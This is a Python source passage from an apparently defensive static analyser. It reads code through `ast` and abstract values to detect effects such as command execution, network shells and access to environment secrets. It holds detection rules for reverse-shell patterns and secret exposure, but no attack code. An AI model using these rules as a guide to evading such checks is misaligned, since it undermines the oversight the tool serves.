"""Python, read by its own ``ast`` and followed by abstract values.

Every object that can do something outside (a module, a function, a path) is followed from where it is
made. Where one leaves sight (stored in a container, handed to a function that is only known to
compute) it counts as used with unknown arguments there and then. So what remains, plain data, can do
nothing, and its attributes are an accept-list.

The order of statements does not matter to the reading: a name holds all that is ever bound to it. The
code is gone through until nothing new is found, then its outcomes are those of the last pass.
"""

# ruff: noqa: N802, N815  # visitors are named after the classes of `ast`

from __future__ import annotations

import functools
import re
from collections.abc import Callable, Iterable
from typing import Any, NamedTuple

from autogate.effects import LINKS, Effect, Kind, Outcome, RunCode, RunCommand, RunFile, RunShell
from autogate.knowledge.languages._python import (
    CALLS,
    DATA_NAMES,
    NOT_HARMLESS_TO_IMPORT,
    NOT_PURE,
    PATH_METHODS,
    PATH_PLAIN,
    PATH_SAME,
    PURE_MODULES,
    PURE_NAMES,
    THIRD_PARTY,
    VERSION_NAMES,
)
from autogate.knowledge.languages._reader import Reader
from autogate.knowledge.languages.common import (
    ENVIRONMENT,
    HOME,
    at_home,
    distinct,
    opened,
    strip_markers,
    uncertain,
    unknown_part,
    variable_read,
    with_unknown,
)
from autogate.words.values import BRACKET, MANY, QUESTION, STAR, UNKNOWN, is_static

_LONGEST = 40_000
_DEEP = 60
_PASSES = 30
_ALTERNATIVES = 4
_LONGEST_TEXT = 20_000


class Atom(NamedTuple):
    """One of the things that a value may be."""

    kind: str
    """``text`` · ``const`` · ``items`` (a list or tuple of known length) · ``many`` (of any length) ·
    ``dict`` · ``path`` · ``ref`` (something of a module, by its full name) · ``func`` (defined in the
    code) · ``data`` (anything that only computes)."""
    value: Any


Value = tuple[Atom, ...]
DATA: Value = (Atom("data", ""),)
NETWORK: Value = (Atom("data", "network"),)
OWN: Value = (Atom("data", "own"),)
"""What a module that is not known holds: that the module runs, which ``_importable`` tells, covers what it does."""
TEXT: Value = (Atom("text", UNKNOWN),)
NONE: Value = (Atom("const", None),)


def outcomes(
    text: str, arguments: tuple[str, ...] = (), options: tuple[str, ...] = ()
) -> tuple[Outcome, ...]:
    """What the code does beyond computing and printing. ``arguments`` are those after the code."""
    del options
    if len(text) > _LONGEST:
        return (uncertain("python", "very long code"),)
    out: list[Outcome] = [] if is_static(text) else [unknown_part("python")]
    tree = _parsed(strip_markers(text))
    if tree is None:
        return (*out, uncertain("python", "code that this Python cannot read"))
    reader = _Reader(arguments)
    try:
        found = reader.read(tree)
    except RecursionError:
        found = [*reader.out, uncertain("python", "deep nesting")]
    return distinct([*found, *out])


def _parsed(text: str) -> Any:
    import ast
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        try:
            return ast.parse(text)
        except (SyntaxError, ValueError, RecursionError, MemoryError):
            return None


_PURE_BUILTINS = frozenset(
    """abs aiter all anext any ascii bin bool bytearray bytes callable chr classmethod complex dict divmod enumerate exit filter
    float format frozenset hasattr hash hex id input int isinstance issubclass iter len list map max memoryview min next
    object oct ord pow print property quit range repr reversed round set slice sorted staticmethod str sum super tuple type
    zip True False None Ellipsis NotImplemented __debug__ __name__ __doc__ __file__ unicode xrange raw_input unichr long""".split()
)
_ERRORS = re.compile(r"\w*(Error|Exception|Warning|Exit|Interrupt|Iteration|ExceptionGroup)")
_LOOKING = frozenset(
    "print str repr len type isinstance issubclass hasattr id callable dir bool hash format ascii int float".split()
)
"""Builtins that keep nothing of what they are given."""
_KEEPING = frozenset("list tuple set frozenset sorted reversed iter".split())
_IMPURE_BUILTINS = frozenset(
    "open eval exec compile __import__ getattr setattr delattr globals locals vars breakpoint help dir file execfile reload".split()
)
_SUBPROCESS = frozenset(("run", "call", "check_call", "check_output", "Popen"))
_MUTATING = frozenset(
    "append insert extend add update setdefault appendleft extendleft __setitem__ push".split()
)
_TEXT_METHODS = frozenset(
    """capitalize casefold center expandtabs format format_map join ljust lower lstrip removeprefix removesuffix replace rjust
    rstrip strip swapcase title translate upper zfill decode encode hex""".split()
)


class _Reader(Reader):
    """The state of one reading."""

    language = "python"

    def __init__(self, arguments: tuple[str, ...]) -> None:
        self.arguments = arguments
        self.out: list[Outcome] = []
        self.names: dict[str, Value] = {}
        self.attributes: dict[str, None] = {}
        self.changed: dict[Atom, Value] = {}
        """What was put into lists and dictionaries later, by the value they began with."""
        self.loose_paths = False
        """A path went where it can no longer be told from other data."""
        self.stars: dict[str, None] = {}
        self.functions: dict[int, Any] = {}
        self.called: dict[int, None] = {}
        """Functions that something calls: others are read when all else is settled."""
        self.run: dict[int, None] = {}
        self.texts: dict[str, Any] = {}
        self.folders: dict[str, None] = {}
        self.imported: dict[str, None] = {}
        self.environment: dict[str, None] = {}
        self.flags: dict[str, str] = {}
        self.depth = 0
        self.steps = 0
        self.inside: list[int] = []
        self.class_depth = 0
        self.endless = 0

    # passes

    def read(self, tree: Any) -> list[Outcome]:
        """All outcomes of the code."""
        before = self._state()
        for _ in range(_PASSES):
            self.out = []
            self.flags = {}
            self.block(tree.body)
            state = self._state()
            if state == before:
                idle = [key for key in self.functions if key not in self.called]
                if not idle:
                    break
                for key in idle:
                    self._free(Atom("func", key))
            before = state
            if self.steps > 400_000:
                self.doubt("code that takes too long to follow")
                break
        else:
            self.doubt("code that cannot be followed")
        return self._finished()

    def _state(self) -> object:
        """What a pass goes by: where it left that as it was, another pass would find the same."""
        return (
            dict(self.names), tuple(self.attributes), dict(self.changed), self.loose_paths, tuple(self.folders),
            tuple(self.stars), tuple(self.imported), tuple(self.environment), tuple(self.called), tuple(self.run),
        )  # fmt: skip

    def _finished(self) -> list[Outcome]:
        host = self.flags.get("connect")
        if host is not None and ("shell" in self.flags):
            self.out.append(Effect(Kind.NETWORK, host, "shell"))
        if self.environment and any(not isinstance(outcome, Effect) for outcome in self.out):
            self.doubt(f"commands with a changed environment ({', '.join(self.environment)})")
        out: list[Outcome] = []
        for outcome in self.out:
            out.extend(self._placed(outcome))
        return [at_home(outcome) for outcome in out]

    def _placed(self, outcome: Outcome) -> Iterable[Outcome]:
        """The outcome, and as it is after a change of directory."""
        if not self.folders:
            return (outcome,)
        folder = next(iter(self.folders)) if len(self.folders) == 1 else UNKNOWN
        if isinstance(outcome, (RunCommand, RunShell)):
            return (outcome._replace(directory=folder),) if outcome.directory is None else (outcome,)
        if isinstance(outcome, Effect) and outcome.kind in _PATH_KINDS:
            moved = outcome._replace(what=_joined(folder, outcome.what))
            if moved.kind is Kind.MOVE or moved.detail in LINKS:
                moved = moved._replace(to=_joined(folder, outcome.to))
            return (outcome, moved)
        return (outcome,)

    # statements

    def block(self, body: list[Any]) -> None:
        for statement in body:
            self.statement(statement)

    def statement(self, node: Any) -> None:
        self.depth += 1
        self.steps += 1
        if self.depth > _DEEP:
            self.depth -= 1
            self.doubt("deep nesting")
            return
        name = type(node).__name__
        if name == "Expr":
            self.evaluate(node.value)
        elif name == "Assign":
            value = self.evaluate(node.value)
            for target in node.targets:
                self.assign(target, value)
        elif name == "AnnAssign":
            self.evaluate(node.annotation)
            if node.value is not None:
                self.assign(node.target, self.evaluate(node.value))
        elif name == "AugAssign":
            value = self.evaluate(node.value)
            now = self.evaluate(node.target)
            self._mutate(now, value)
            result = self._widened(self._operated(type(node.op).__name__, now, value))
            self.assign(node.target, result)
        elif name in ("Import", "ImportFrom"):
            self._import(node)
        elif name in ("FunctionDef", "AsyncFunctionDef"):
            self._define(node)
        elif name == "ClassDef":
            self._class(node)
        elif name in ("For", "AsyncFor"):
            self.assign(node.target, self.element(self.evaluate(node.iter)))
            self.block(node.body)
            self.block(node.orelse)
        elif name == "While":
            test = self.evaluate(node.test)
            endless = len(test) == 1 and test[0].kind == "const" and bool(test[0].value)
            self.endless += endless
            self.block(node.body)
            self.endless -= endless
            self.block(node.orelse)
        elif name == "If":
            self.evaluate(node.test)
            self.block(node.body)
            self.block(node.orelse)
        elif name in ("With", "AsyncWith"):
            for item in node.items:
                value = self.evaluate(item.context_expr)
                if item.optional_vars is not None:
                    self.assign(item.optional_vars, value)
            self.block(node.body)
        elif name in ("Try", "TryStar"):
            self.block(node.body)
            for handler in node.handlers:
                if handler.type is not None:
                    self.evaluate(handler.type)
                if handler.name:
                    self.bind(handler.name, DATA)
                self.block(handler.body)
            self.block(node.orelse)
            self.block(node.finalbody)
        elif name == "Return":
            value = NONE if node.value is None else self.evaluate(node.value)
            if self.inside:
                self.bind(f"return {self.inside[-1]}", value)
        elif name == "Raise":
            for part in (node.exc, node.cause):
                if part is not None:
                    self.escape(self.evaluate(part))
        elif name == "Assert":
            self.evaluate(node.test)
            if node.msg is not None:
                self.escape(self.evaluate(node.msg))
        elif name == "Delete":
            for target in node.targets:
                self._delete(target)
        elif name == "Match":
            self._match(node)
        elif name not in ("Pass", "Break", "Continue", "Global", "Nonlocal"):
            self.doubt(f"the statement {name}")
        self.depth -= 1

    def _delete(self, target: Any) -> None:
        if type(target).__name__ == "Subscript":
            base = self.evaluate(target.value)
            self.evaluate(target.slice)
            if any(atom == Atom("ref", "os.environ") for atom in base):
                self.environment["…"] = None
            elif any(atom.kind == "ref" for atom in base):
                self.doubt("del")
        elif type(target).__name__ in ("Tuple", "List"):
            for part in target.elts:
                self._delete(part)
        elif type(target).__name__ == "Attribute":
            self.doubt("del")

    def _match(self, node: Any) -> None:
        import ast

        subject = self.evaluate(node.subject)
        self.escape(subject)
        for case in node.cases:
            for part in ast.walk(case.pattern):
                name = getattr(part, "name", None) or getattr(part, "rest", None)
                if isinstance(name, str):
                    self.bind(name, DATA)
                    self.bind(name, subject)
                if isinstance(part, ast.MatchValue):
                    self.evaluate(part.value)
                elif isinstance(part, ast.MatchClass):
                    self.evaluate(part.cls)
            if case.guard is not None:
                self.evaluate(case.guard)
            self.block(case.body)

    # names

    def bind(self, name: str, value: Value) -> None:
        """Adds to what a name may hold."""
        old = self.names.get(name, ())
        new = self.join(old, value)
        if new != old:
            self.names[name] = new
        if self.class_depth and not name.startswith("return "):
            self.attributes[name] = None
            self.escape(value)

    def join(self, *values: Value) -> Value:
        """All that any of the values may be."""
        if len(values) == 1 and len(values[0]) < 2:
            return values[0]
        atoms: dict[Atom, None] = {}
        for value in values:
            for atom in value:
                atoms[atom] = None
        if len(atoms) <= 1:
            return tuple(atoms)
        unknown = Atom("text", UNKNOWN)
        if unknown in atoms:
            atoms = {a: None for a in atoms if a.kind != "text" or a == unknown}
        result = tuple(atoms)
        return result if len(result) <= _ALTERNATIVES and _nesting(result) <= 4 else self._collapsed(result)

    def _collapsed(self, value: Value) -> Value:
        kinds = {atom.kind for atom in value}
        if kinds <= {"text", "const"}:
            return TEXT
        if kinds == {"path"}:
            return (Atom("path", UNKNOWN),)
        if kinds <= {"items", "many", "data"} and _nesting(value) <= 3:
            inner = self.element(value)
            if len(inner) <= _ALTERNATIVES:
                return (Atom("many", inner),)
        functions = tuple(atom for atom in value if atom.kind == "func")
        if kinds <= {"func"}:
            for atom in functions:
                self._free(atom)
            return DATA
        self.escape(value)
        return self.join(DATA, NETWORK) if Atom("data", "network") in value else DATA

    def _widened(self, value: Value) -> Value:
        """A value that grows in a loop, at once as far as it can grow."""
        atoms: list[Atom] = []
        for atom in value:
            if atom.kind == "text":
                atoms.append(Atom("text", UNKNOWN))
            elif atom.kind == "items":
                atoms.append(Atom("many", self.element((atom,))))
            elif atom.kind == "const":
                atoms.append(Atom("data", ""))
            else:
                atoms.append(atom)
        return self.join(tuple(atoms))

    def assign(self, target: Any, value: Value) -> None:
        kind = type(target).__name__
        if kind == "Name":
            self.bind(target.id, value)
        elif kind in ("Tuple", "List"):
            starred = any(type(part).__name__ == "Starred" for part in target.elts)
            for at, part in enumerate(target.elts):
                if type(part).__name__ == "Starred":
                    self.assign(part.value, (Atom("many", self.element(value)),))
                    continue
                parts: list[Value] = []
                for atom in value:
                    if (
                        atom.kind == "items"
                        and not starred
                        and len(atom.value) == len(target.elts)
                        and atom not in self.changed
                    ):
                        parts.append(atom.value[at])
                    else:
                        parts.append(self.element((atom,)))
                self.assign(part, self.join(*parts))
        elif kind == "Starred":
            self.assign(target.value, value)
        elif kind == "Attribute":
            base = self.evaluate(target.value)
            if any(atom.kind == "ref" for atom in base):
                self.doubt(f"a change of {_shown(base)}.{target.attr}")
            self.attributes[target.attr] = None
            self.escape(value)
        elif kind == "Subscript":
            base = self.evaluate(target.value)
            key = self.evaluate(target.slice)
            for atom in base:
                if atom == Atom("ref", "os.environ"):
                    self.environment[self.text_of(key)] = None
                    self.escape(value)
                elif atom.kind == "ref":
                    self.doubt(f"a change of {atom.value}")
                elif atom.kind in ("items", "many", "dict"):
                    self._put(atom, value)
                else:
                    self.escape(value)
        else:
            self.doubt(f"an assignment to {kind}")

    def _put(self, atom: Atom, value: Value) -> None:
        self.changed[atom] = self.join(self.changed.get(atom, ()), value)

    def _mutate(self, base: Value, value: Value) -> None:
        for atom in base:
            if atom.kind in ("items", "many", "dict"):
                self._put(atom, self.element(value))
            elif atom.kind == "data":
                self.escape(value)

    def escape(self, value: Value) -> None:
        """The value goes out of sight: whatever it can do, it may do from now on."""
        self.steps += 1
        for atom in value:
            kind = atom.kind
            if kind == "path":
                self.loose_paths = True
            elif kind == "data" and atom.value == "environ":
                self.out.append(Effect(Kind.SECRET, ENVIRONMENT))
            elif kind in ("items", "many"):
                for inner in atom.value if kind == "items" else (atom.value,):
                    self.escape(inner)
                self.escape(self.changed.get(atom, ()))
            elif kind == "dict":
                for key, inner in atom.value:
                    self.escape(key)
                    self.escape(inner)
                self.escape(self.changed.get(atom, ()))
            elif kind == "func":
                self._free(atom)
            elif kind == "ref" and not _is_pure(atom.value):
                self._use(atom.value)
            elif kind == "ref" and atom.value in _PATH_CLASSES:
                self.loose_paths = True

    def _use(self, name: str) -> None:
        """A function of the library is called by something out of sight."""
        if name in _SECRET_REFS:
            self.out.append(Effect(Kind.SECRET, ENVIRONMENT))
        elif name in CALLS or name in _SPECIAL:
            self.call_ref(name, _Arguments([], {}, unknown=True))
        else:
            self.doubt(name)

    def _free(self, atom: Atom) -> None:
        node = self.functions.get(atom.value)
        if node is not None:
            self.called[atom.value] = None
            for name in _parameters(node):
                self.bind_parameter(name, DATA)
            self.escape(self.names.get(f"return {atom.value}", ()))

    def bind_parameter(self, name: str, value: Value) -> None:
        was, self.class_depth = self.class_depth, 0
        self.bind(name, value)
        self.class_depth = was

    # definitions

    def _define(self, node: Any) -> None:
        atom = Atom("func", id(node))
        self.functions[id(node)] = node
        self._defaults(node)
        for part in _annotations(node):
            self.evaluate(part)
        self._body(node, node.body)
        value: Value = (atom,)
        for decorator in reversed(node.decorator_list):
            self.call(self.evaluate(decorator), _Arguments([value], {}))
            self._free(atom)
        self.bind(node.name, value)
        if node.decorator_list:
            self.bind(node.name, DATA)

    def _defaults(self, node: Any) -> None:
        arguments = node.args
        plain = [*arguments.posonlyargs, *arguments.args]
        for argument, default in zip(reversed(plain), reversed(arguments.defaults), strict=False):
            self.bind_parameter(argument.arg, self.evaluate(default))
        for argument, default in zip(arguments.kwonlyargs, arguments.kw_defaults, strict=False):
            if default is not None:
                self.bind_parameter(argument.arg, self.evaluate(default))

    def _body(self, node: Any, body: list[Any]) -> None:
        if id(node) not in self.called:
            return
        was, self.class_depth = self.class_depth, 0
        self.inside.append(id(node))
        for name in _parameters(node):
            if name not in self.names:
                self.bind(name, DATA)
        self.block(body)
        self.inside.pop()
        self.class_depth = was
        self.run[id(node)] = None

    def _class(self, node: Any) -> None:
        for base in node.bases:
            self.escape(self.evaluate(base))
        for keyword in node.keywords:
            self.escape(self.evaluate(keyword.value))
        self.bind(node.name, DATA)
        self.class_depth += 1
        self.block(node.body)
        self.class_depth -= 1
        for decorator in node.decorator_list:
            self.call(self.evaluate(decorator), _Arguments([DATA], {}))

    def _import(self, node: Any) -> None:
        if type(node).__name__ == "Import":
            for alias in node.names:
                module = alias.name
                if self._importable(module):
                    name = alias.asname or module.partition(".")[0]
                    self.bind(name, (Atom("ref", module if alias.asname else module.partition(".")[0]),))
                    self.imported[module] = None
                else:
                    self.bind(alias.asname or module.partition(".")[0], OWN)
            return
        module = node.module or ""
        if node.level or not self._importable(module, *[alias.name for alias in node.names]):
            if node.level:
                self.doubt("a relative import")
            for alias in node.names:
                self.bind(alias.asname or alias.name, DATA if node.level else self.of_own(alias.name))
            return
        self.imported[module] = None
        for alias in node.names:
            if alias.name == "*":
                self.stars[module] = None
                if module not in PURE_MODULES:
                    self.doubt(f"from {module} import *")
                continue
            full = f"{module}.{alias.name}"
            self.imported[full] = None
            if module != "__future__":
                self.bind(alias.asname or alias.name, self._member(module, alias.name))

    def _importable(self, module: str, *names: str) -> bool:
        """Whether importing it, or names from it, runs nothing of the project's; what it runs else is told."""
        import sys

        top = module.partition(".")[0]
        if top in NOT_HARMLESS_TO_IMPORT:
            self.doubt(f"import {module}")
            return False
        if (
            top in sys.stdlib_module_names
            or top in THIRD_PARTY
            or top in ("urllib2", "commands", "StringIO", "joblib", "dill")
        ):
            return True
        if self.folders:
            self.doubt(f"import {module} out of another folder")
        else:
            self.out.append(RunFile(module, "python-module", names))
        return False

    def of_own(self, name: str) -> Value:
        """What a module of the project has by a name: its own, but also what it imports itself."""
        if (name.startswith("__") and name != "__version__") or name in _REACHES_FURTHER:
            self.doubt(f"the attribute {name}")
            return DATA
        full = _OF_LIBRARY.get(name, name)
        return self.join(OWN, (Atom("ref", full),)) if full != name or _is_module_known(name) else OWN

    # expressions

    def evaluate(self, node: Any) -> Value:
        """What an expression may be."""
        self.depth += 1
        self.steps += 1
        if self.depth > _DEEP or self.steps > 500_000:
            self.depth -= 1
            self.doubt("deep nesting" if self.depth >= _DEEP else "code that takes too long to follow")
            return DATA
        kind = type(node)
        method = _EVALUATED.get(kind)
        if method is None:
            method = _EVALUATED[kind] = getattr(_Reader, f"_e_{kind.__name__}", _Reader.not_known)
        value = method(self, node)
        self.depth -= 1
        return value

    def not_known(self, node: Any) -> Value:
        """An expression of a kind that is not followed."""
        self.doubt(f"the expression {type(node).__name__}")
        return DATA

    def _e_Constant(self, node: Any) -> Value:
        value = node.value
        if isinstance(value, str):
            return (Atom("text", with_unknown(value)),)
        if isinstance(value, bytes):
            return (Atom("text", with_unknown(value.decode("utf-8", "replace"))),)
        return (Atom("const", value),) if value is None or isinstance(value, (bool, int)) else DATA

    def _e_Name(self, node: Any) -> Value:
        name = node.id
        known = self.names.get(name, ())
        builtin = _builtin(name)
        if not known:
            for module in self.stars:
                known = self.join(known, self._member(module, name) if module in PURE_MODULES else ())
        if not known and not builtin:
            # a name whose binding comes later is met again in the next pass
            self.doubt(f"the name {name}")
            return DATA
        return (
            self.join(known, builtin)
            if known and builtin and not _is_pure(f"builtins.{name}")
            else known or builtin
        )

    def _e_JoinedStr(self, node: Any) -> Value:
        parts: list[str] = []
        tag = False
        for part in node.values:
            if type(part).__name__ == "Constant":
                parts.append(with_unknown(str(part.value)))
                continue
            value = self.evaluate(part)
            tag = tag or Atom("data", "network") in value
            parts.append(self.text_of(value))
        text = _short("".join(parts))
        return (Atom("text", text), Atom("data", "network")) if tag else (Atom("text", text),)

    def _e_FormattedValue(self, node: Any) -> Value:
        value = self.evaluate(node.value)
        if node.format_spec is not None:
            self.evaluate(node.format_spec)
        if node.format_spec is not None or node.conversion not in (-1, 115):
            return TEXT
        return value

    def _items(self, nodes: list[Any]) -> Value:
        parts: list[Value] = []
        for part in nodes:
            if type(part).__name__ == "Starred":
                value = self.evaluate(part.value)
                if len(value) == 1 and value[0].kind == "items" and value[0] not in self.changed:
                    parts.extend(value[0].value)
                else:
                    parts.append((Atom("rest", self.element(value)),))
            else:
                parts.append(self.evaluate(part))
        if len(parts) > 200:
            return (
                Atom(
                    "many",
                    self.join(*[p[0].value if len(p) == 1 and p[0].kind == "rest" else p for p in parts]),
                ),
            )
        return (Atom("items", tuple(parts)),)

    def _e_List(self, node: Any) -> Value:
        return self._items(node.elts)

    _e_Tuple = _e_List
    _e_Set = _e_List

    def _e_Dict(self, node: Any) -> Value:
        pairs: list[tuple[Value, Value]] = []
        for key, value in zip(node.keys, node.values, strict=True):
            if key is None:
                spread = self.evaluate(value)
                for atom in spread:
                    if atom.kind == "dict" and atom not in self.changed:
                        pairs.extend(atom.value)
                    elif atom == Atom("ref", "os.environ"):
                        pairs.append(((Atom("data", "environ"),), TEXT))
                    else:
                        self.escape((atom,))
                        pairs.append((DATA, DATA))
            else:
                pairs.append((self.evaluate(key), self.evaluate(value)))
        if len(pairs) > 200:
            for first, second in pairs:
                self.escape(first)
                self.escape(second)
            return DATA
        return (Atom("dict", tuple(pairs)),)

    def _e_BinOp(self, node: Any) -> Value:
        left = self.evaluate(node.left)
        right = self.evaluate(node.right)
        return self._operated(type(node.op).__name__, left, right)

    def _operated(self, operator: str, left: Value, right: Value) -> Value:
        results: list[Value] = []
        for a in left:
            results.extend(self._operate(operator, a, b) for b in right)
        return self.join(*results)

    def _operate(self, operator: str, a: Atom, b: Atom) -> Value:
        if operator == "Add":
            if a.kind == "text" or b.kind == "text":
                if a.kind == "data" and a.value == "network":
                    return (a,)
                if b.kind == "data" and b.value == "network":
                    return (b,)
                return (Atom("text", _short(self.text_of((a,)) + self.text_of((b,)))),)
            if (
                a.kind == b.kind == "items"
                and a not in self.changed
                and b not in self.changed
                and len(a.value) + len(b.value) < 50
            ):
                return (Atom("items", a.value + b.value),)
            if a.kind in ("items", "many") and b.kind in ("items", "many", "data"):
                if a.kind == "items" and a not in self.changed and len(a.value) < 50:
                    return (Atom("items", (*a.value, (Atom("rest", self.element((b,))),))),)
                return (Atom("many", self.join(self.element((a,)), self.element((b,)))),)
        if operator == "Div" and (a.kind == "path" or b.kind == "path"):
            return (Atom("path", _joined(self.text_of((a,)), self.text_of((b,)))),)
        if operator == "Mod" and a.kind == "text":
            return (Atom("text", self._percent(a.value, b)),)
        if operator == "Mult" and "text" in (a.kind, b.kind):
            return TEXT
        if operator == "Mult" and a.kind in ("items", "many"):
            return (Atom("many", self.element((a,))),)
        self.escape((a, b))
        return NETWORK if Atom("data", "network") in (a, b) else DATA

    def _percent(self, text: str, b: Atom) -> str:
        values = [self.text_of(v) for v in b.value] if b.kind == "items" else [self.text_of((b,))]
        pieces = re.split(r"%(?:\([^)]*\))?[-#0-9 +.*]*[a-zA-Z%]", text)
        marks = re.findall(r"%(?:\([^)]*\))?[-#0-9 +.*]*[a-zA-Z%]", text)
        simple = all(mark == "%s" for mark in marks) and len(values) == len(marks)
        out = pieces[0]
        for at, piece in enumerate(pieces[1:]):
            out += (values[at] if simple else UNKNOWN) + piece
        return _short(out)

    def _e_BoolOp(self, node: Any) -> Value:
        return self.join(*[self.evaluate(part) for part in node.values])

    def _e_Compare(self, node: Any) -> Value:
        for part in (node.left, *node.comparators):
            value = self.evaluate(part)
            self.escape(tuple(atom for atom in value if atom.kind not in ("ref", "path")))
        return DATA

    def _e_UnaryOp(self, node: Any) -> Value:
        value = self.evaluate(node.operand)
        if len(value) == 1 and value[0].kind == "const" and isinstance(value[0].value, int):
            if type(node.op).__name__ == "USub":
                return (Atom("const", -value[0].value),)
            if type(node.op).__name__ == "Not":
                return (Atom("const", not value[0].value),)
        return DATA

    def _e_IfExp(self, node: Any) -> Value:
        self.evaluate(node.test)
        return self.join(self.evaluate(node.body), self.evaluate(node.orelse))

    def _e_NamedExpr(self, node: Any) -> Value:
        value = self.evaluate(node.value)
        self.assign(node.target, value)
        return value

    def _e_Lambda(self, node: Any) -> Value:
        self.functions[id(node)] = node
        self._defaults(node)
        if id(node) in self.called:
            was, self.class_depth = self.class_depth, 0
            self.inside.append(id(node))
            for name in _parameters(node):
                if name not in self.names:
                    self.bind(name, DATA)
            self.bind(f"return {id(node)}", self.evaluate(node.body))
            self.inside.pop()
            self.class_depth = was
            self.run[id(node)] = None
        return (Atom("func", id(node)),)

    def _e_Await(self, node: Any) -> Value:
        return self.evaluate(node.value)

    def _e_Yield(self, node: Any) -> Value:
        value = NONE if node.value is None else self.evaluate(node.value)
        if self.inside:
            self.bind(f"return {self.inside[-1]}", (Atom("many", value),))
        return DATA

    def _e_YieldFrom(self, node: Any) -> Value:
        value = self.evaluate(node.value)
        if self.inside:
            self.bind(f"return {self.inside[-1]}", (Atom("many", self.element(value)),))
        return DATA

    def _e_Starred(self, node: Any) -> Value:
        return self.element(self.evaluate(node.value))

    def _e_Slice(self, node: Any) -> Value:
        for part in (node.lower, node.upper, node.step):
            if part is not None:
                self.escape(self.evaluate(part))
        return DATA

    def _generators(self, node: Any) -> None:
        for generator in node.generators:
            self.assign(generator.target, self.element(self.evaluate(generator.iter)))
            for test in generator.ifs:
                self.evaluate(test)

    def _e_ListComp(self, node: Any) -> Value:
        was, self.class_depth = self.class_depth, 0
        self._generators(node)
        value = self.evaluate(node.elt)
        self.class_depth = was
        return (Atom("many", value),)

    _e_SetComp = _e_ListComp
    _e_GeneratorExp = _e_ListComp

    def _e_DictComp(self, node: Any) -> Value:
        was, self.class_depth = self.class_depth, 0
        self._generators(node)
        self.escape(self.evaluate(node.key))
        self.escape(self.evaluate(node.value))
        self.class_depth = was
        return DATA

    def _e_Subscript(self, node: Any) -> Value:
        base = self.evaluate(node.value)
        index = node.slice
        if type(index).__name__ == "Slice":
            self.evaluate(index)
            return self.join(*[self._sliced(atom, index) for atom in base])
        key = self.evaluate(index)
        out: list[Value] = []
        for atom in base:
            if atom.kind == "items":
                at = (
                    key[0].value
                    if len(key) == 1 and key[0].kind == "const" and type(key[0].value) is int
                    else None
                )
                inner = atom.value
                if (
                    at is not None
                    and atom not in self.changed
                    and -len(inner) <= at < len(inner)
                    and not _has_rest(inner)
                ):
                    out.append(inner[at])
                else:
                    out.append(self.element((atom,)))
            elif atom.kind == "dict":
                found = [v for k, v in atom.value if k == key]
                if found and atom not in self.changed and len(key) == 1 and is_static(str(key[0].value)):
                    out.append(found[-1])
                else:
                    out.append(self.element_of_dict(atom))
            elif atom.kind == "many":
                out.append(self.element((atom,)))
            elif atom.kind == "text":
                out.append(TEXT)
            elif atom.kind == "ref":
                out.append(self._ref_item(atom.value, key))
            else:
                self.escape(key)
                out.append((atom,) if atom.kind == "data" and atom.value == "network" else DATA)
        return self.join(*out)

    def _ref_item(self, name: str, key: Value) -> Value:
        if name == "os.environ":
            return self._variable(key)
        if name in ("sys.argv", "sys.orig_argv"):
            at = key[0].value if len(key) == 1 and key[0].kind == "const" else None
            if isinstance(at, int) and name == "sys.argv":
                return (Atom("text", self._argument(at)),)
            return TEXT
        if name == "sys.path":
            return TEXT
        if _is_pure(name):
            self.escape(key)
            return DATA
        self.doubt(f"{name}[…]")
        return DATA

    def _argument(self, at: int) -> str:
        given = self.arguments
        if at == 0:
            return "-c"
        if at > 0 and MANY not in given[:at] and at <= len(given):
            return given[at - 1]
        return UNKNOWN

    def _variable(self, key: Value) -> Value:
        name = self.text_of(key)
        self.out.extend(variable_read(name))
        if name == "HOME":
            return (Atom("text", HOME),)
        return TEXT

    def _sliced(self, atom: Atom, index: Any) -> Value:
        bounds = [None if part is None else _number(part) for part in (index.lower, index.upper, index.step)]
        known = (
            all(
                part is None or bound is not None
                for part, bound in zip((index.lower, index.upper, index.step), bounds, strict=True)
            )
            and bounds[2] != 0
        )
        cut = slice(*bounds)
        if atom.kind == "text":
            return (Atom("text", atom.value[cut]),) if known and is_static(atom.value) else TEXT
        if atom.kind == "items":
            if known and atom not in self.changed and not _has_rest(atom.value):
                return (Atom("items", atom.value[cut]),)
            return (Atom("many", self.element((atom,))),)
        if atom.kind == "ref":
            if atom.value == "sys.argv":
                if known and bounds[0] == 1 and bounds[1] is None and bounds[2] is None and self.arguments:
                    return (
                        Atom(
                            "items",
                            tuple(
                                (Atom("rest", TEXT),) if a == MANY else (Atom("text", a),)
                                for a in self.arguments
                            ),
                        ),
                    )
                return (Atom("many", TEXT),)
            if not _is_pure(atom.value):
                self.doubt(f"{atom.value}[…]")
            return DATA
        return (atom,) if atom.kind in ("data", "many") else DATA

    # attributes

    def _e_Attribute(self, node: Any) -> Value:
        if (
            node.attr == "__name__"
            and type(node.value).__name__ == "Attribute"
            and node.value.attr == "__class__"
        ):
            self.evaluate(node.value.value)
            return DATA
        base = self.evaluate(node.value)
        return self.join(*[self.attribute(atom, node.attr) for atom in base])

    def attribute(self, atom: Atom, name: str) -> Value:
        """An attribute that is not called at once."""
        kind = atom.kind
        if kind == "ref":
            return self._member(atom.value, name)
        if kind == "path":
            return self._path_attribute(atom, name)
        if kind == "const" and not name.startswith("__"):
            return DATA
        if kind in ("items", "many", "dict", "func"):
            if name in _MUTATING or name in DATA_NAMES:
                self.escape((atom,))
                return DATA
            if name in self.attributes:
                return DATA
            self.doubt(f"the attribute {name}")
            return DATA
        return self._data_attribute(atom, name, None)

    def _member(self, owner: str, name: str) -> Value:
        """Something of a module or class of the library."""
        full = f"{owner}.{name}"
        if full in ("os.path", "os.environ", "sys.argv", "sys.path", "sys.executable"):
            return (Atom("text", "python3"),) if full == "sys.executable" else (Atom("ref", full),)
        if owner in ("pathlib.Path", "pathlib.PosixPath", "pathlib.PurePath"):
            return (
                (Atom("ref", full),)
                if name in PATH_METHODS
                or name in PATH_PLAIN
                or name in PATH_SAME
                or name in ("home", "cwd", "joinpath", "with_suffix")
                else self._not_known(full)
            )
        if full in CALLS or full in _SPECIAL or full in self.imported or _is_pure(full):
            return (Atom("ref", full),)
        if owner.startswith("builtins."):
            if name in DATA_NAMES or name in self.attributes:
                return (
                    (Atom("ref", full),)
                    if owner in ("builtins.str", "builtins.bytes", "builtins.int", "builtins.dict")
                    else DATA
                )
            return self._not_known(full)
        if name in VERSION_NAMES and _top(owner) in THIRD_PARTY:
            return TEXT
        if name in ("__name__", "__file__", "__doc__", "__version__"):
            return TEXT
        if _is_module_known(full):
            return (Atom("ref", full),)
